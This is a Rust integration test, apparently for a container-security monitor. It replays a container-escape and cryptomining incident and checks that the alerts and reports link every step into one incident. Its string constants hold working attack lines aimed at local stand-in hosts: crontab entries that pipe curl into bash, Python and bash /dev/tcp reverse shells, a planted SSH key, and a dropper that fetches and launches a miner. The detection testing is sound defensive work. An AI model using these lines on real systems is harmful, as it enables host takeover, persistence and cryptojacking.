//! The docker123321 case from end to end: a container writes to the host's cron and to its root's keys, the host's cron
//! runs what stands there, and that goes on by itself. One incident, and a report that tells it.

use crate::container::{Container, Group};
use crate::daemon::{ALERT_WAIT, Daemon, Pins, Settings, is_alert, program};
use crate::lab::Peer;
use crate::pace;
use anyhow::{Context, Result, ensure};
use rustix::process::{Pid, Signal, kill_process_group};
use serde_json::Value;
use std::fs;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

/// Each line of the crontabs below `$1` once, as cron does it: a child that waits for a shell. Nobody's own child, as cron
/// is.
const CRON: &str = r#"cd "$1" && echo $$ > cron.pid && cat etc/crontab etc/cron.d/* | {
    while IFS= read -r line; do
        (/bin/sh -c "${line#'* * * * * root '}" >/dev/null 2>&1 </dev/null; :) &
    done
    wait
}
: > cron.done"#;

/// What logo3.jpg of the case does, with stand-ins: rivals are only looked for, the crontab is the test's own, and what
/// is fetched and run says a miner's first line to the test's own pool.
const DROPPER: &str = r#"for rival in labrival labstratum; do
    ps auxf | grep -v grep | grep "$rival" | awk '{print $2}' | xargs -r kill -0
done
mkdir -p var/spool/cron/crontabs
echo '* * * * * curl -s http://127.0.0.1:@DROPPER@/logo3.jpg | bash -s' > var/spool/cron/crontabs/root
curl -s -o jaav http://127.0.0.1:@MINER@/jaav
chmod 777 jaav
grep -c ^processor /proc/cpuinfo
nohup ./jaav -c config.json >/dev/null 2>&1 &
wait
"#;

const MINER: &str = r#"#!/bin/bash
exec 3<>/dev/tcp/127.0.0.1/@POOL@
echo '{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"LABWALLET","pass":"x","agent":"lab"}}' >&3
read -r -t 2 -u 3 answer
"#;

/// What the container writes: three lines for cron, one key.
const WRITES: &str = r#"cat <<'END' >> /mnt/etc/crontab
* * * * * root curl -s http://127.0.0.1:@DROPPER@/logo3.jpg | bash -s
* * * * * root python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("127.0.0.1",@SHELL@));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(["/bin/sh","-i"])'
END
echo "* * * * * root bash -c 'bash --norc -i >& /dev/tcp/127.0.0.1/@SHELL@ 0>&1'" > /mnt/etc/cron.d/tomcat
mkdir -p /mnt/root/.ssh
echo 'ssh-ed25519 AAAALAB lab@test' >> /mnt/root/.ssh/authorized_keys"#;

/// The stand-in for cron; what it started ends with it.
struct Cron {
    folder: PathBuf,
}

impl Cron {
    fn start(host: &Path) -> Result<Self> {
        let mut cron = Command::new("setsid");
        cron.args(["--fork", "sh", "-c", CRON, "cron"]).arg(host);
        cron.env("HISTFILE", "").env("HOME", host).stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null());
        let cron = cron.status().context("start cron's stand-in")?;
        ensure!(cron.success(), "cron's stand-in did not start: {cron}");
        Ok(Self { folder: host.to_owned() })
    }

    fn await_end(&self) -> Result<()> {
        let deadline = Instant::now() + pace::wait(Duration::from_secs(20));
        while !self.folder.join("cron.done").exists() {
            ensure!(Instant::now() < deadline, "the jobs did not end");
            std::thread::sleep(Duration::from_millis(50));
        }
        Ok(())
    }
}

impl Drop for Cron {
    fn drop(&mut self) {
        if self.folder.join("cron.done").exists() {
            return;
        }
        let pid = fs::read_to_string(self.folder.join("cron.pid")).ok();
        if let Some(pid) = pid.and_then(|pid| pid.trim().parse().ok()).and_then(Pid::from_raw) {
            let _ = kill_process_group(pid, Signal::KILL);
        }
    }
}

/// The whole case, in monitor mode: nothing is stopped, everything is told, as one incident.
pub fn the_case_is_one_incident() -> Result<()> {
    let host = tempfile::tempdir()?;
    for folder in ["etc/cron.d", "root"] {
        fs::create_dir_all(host.path().join(folder))?;
    }
    let events = host.path().join("events.jsonl");
    let pins = Pins { root: PathBuf::new(), on_exit: "keep", events: events.clone(), socket: None };
    let group = Group::make()?;
    let daemon = Daemon::start(&group, &Settings { host: true, pins: Some(pins), ..Settings::mode("monitor") })?;
    let container = Container::start_with(&group, Some(host.path()))?;

    let listen = || TcpListener::bind("127.0.0.1:0").context("listen");
    let (shell, pool) = (Peer::shell(listen()?, "echo LAB_OK\nexit\n", pace::wait(Duration::from_secs(6)))?, listen()?);
    let pool = Peer::shell(pool, "", pace::wait(Duration::from_secs(6)))?;
    let dropper = listen()?;
    let filled = |text: &str, miner: u16| -> Result<String> {
        let ports = [("@SHELL@", shell.port), ("@POOL@", pool.port), ("@MINER@", miner)];
        let text = ports.iter().fold(text.to_owned(), |text, (name, port)| text.replace(name, &port.to_string()));
        Ok(text.replace("@DROPPER@", &dropper.local_addr()?.port().to_string()))
    };
    let miner = Peer::web(listen()?, filled(MINER, 0)?)?;
    let (payload, writes) = (filled(DROPPER, miner.port)?, filled(WRITES, 0)?);
    let dropper = Peer::web(dropper, payload)?;

    ensure!(container.run(&writes)?.success(), "the container could not write");
    let escape = daemon.await_alert("escape", container.id())?;
    for kind in ["persistence_cron", "persistence_ssh_key"] {
        daemon.await_alert(kind, container.id())?;
    }
    let cron = Cron::start(host.path())?;
    cron.await_end()?;
    ensure!(dropper.received() > 0 && miner.received() > 0 && pool.received() > 0, "the dropper did not get through");
    ensure!(shell.received() > 0, "monitor mode stopped the shells");

    let crontab = format!("{}/etc/crontab", host.path().display());
    let own_file = format!("{}/etc/cron.d/tomcat", host.path().display());
    let planted =
        [("download_exec", "logo3.jpg", &crontab), ("reverse_shell", "", &crontab), ("reverse_shell", "", &own_file)];
    for (kind, word, file) in planted {
        let found = daemon.await_row(&format!("{kind} of a line of {file}"), ALERT_WAIT, |row| {
            is_alert(row, kind, "host") && row.to_string().contains(word) && is_of_line(row, file)
        })?;
        ensure!(
            id(&found) == id(&escape),
            "another incident: {} {}",
            found["bulkhead"]["incident"],
            escape["bulkhead"]
        );
    }
    reports(&daemon.file("out/alerts.jsonl"), &events, id(&escape), &container, &[&crontab, &own_file])
}

fn id(alert: &Value) -> &str {
    alert["bulkhead"]["incident"]["id"].as_str().unwrap_or_default()
}

/// Is it tied by a line of that file?
fn is_of_line(alert: &Value, file: &str) -> bool {
    let ties = alert["bulkhead"]["incident"]["ties"].as_array().into_iter().flatten();
    ties.filter(|tie| tie["what"] == "line").any(|tie| tie["because"].to_string().contains(file))
}

fn reports(log: &Path, events: &Path, id: &str, container: &Container, files: &[&str]) -> Result<()> {
    let report = |format: &str| -> Result<String> {
        let mut report = Command::new(program()?);
        report.args(["report", id, "--format", format, "--from"]).arg(log).arg("--events").arg(events);
        let output = report.output()?;
        ensure!(output.status.success(), "report: {}", String::from_utf8_lossy(&output.stderr));
        Ok(String::from_utf8_lossy(&output.stdout).into_owned())
    };
    let json = report("json")?;
    let story: Value = serde_json::from_str(&json).with_context(|| json.clone())?;
    let list =
        |key: &str| -> Vec<&str> { story[key].as_array().into_iter().flatten().filter_map(Value::as_str).collect() };
    let kinds = list("kinds");
    for kind in ["escape", "persistence_cron", "persistence_ssh_key", "download_exec", "miner", "reverse_shell"] {
        ensure!(kinds.contains(&kind), "no {kind}: {kinds:?}");
    }
    ensure!(story["id"] == id && story["verdict"] == "observed", "{json}");
    let because = list("linked_because").join("\n");
    for file in files {
        ensure!(because.contains(&format!("is a line of {file}")), "{file}: {because}");
    }
    // From the container's write to what the host's cron began, and nothing of the host before.
    let timeline: Vec<&Value> = story["timeline"].as_array().into_iter().flatten().collect();
    let short = container.id().get(..12).unwrap_or_default();
    let places: Vec<bool> = timeline.iter().map(|moment| moment["place"].to_string().contains(short)).collect();
    let writes = places.iter().take_while(|in_container| **in_container).count();
    ensure!(writes >= 3 && writes < places.len() && !places[writes..].contains(&true), "{timeline:#?}");

    let text = report("text")?;
    let page = report("html")?;
    for told in [&text, &page] {
        for part in ["logo3.jpg", "etc/crontab", "etc/cron.d/tomcat", "authorized_keys", short] {
            ensure!(told.contains(part), "no {part:?} in the report: {told}");
        }
    }
    let (_, told) = text.split_once("\nTimeline\n").context("no timeline")?;
    let at = |word: &str| told.find(word).unwrap_or(usize::MAX);
    ensure!(at("persistence_ssh_key") < at("reverse_shell") && at("escape") < at("download_exec"), "no order: {text}");
    ensure!(page.matches("<svg").count() == 2 && !page.contains("<script"), "{page}");
    Ok(())
}
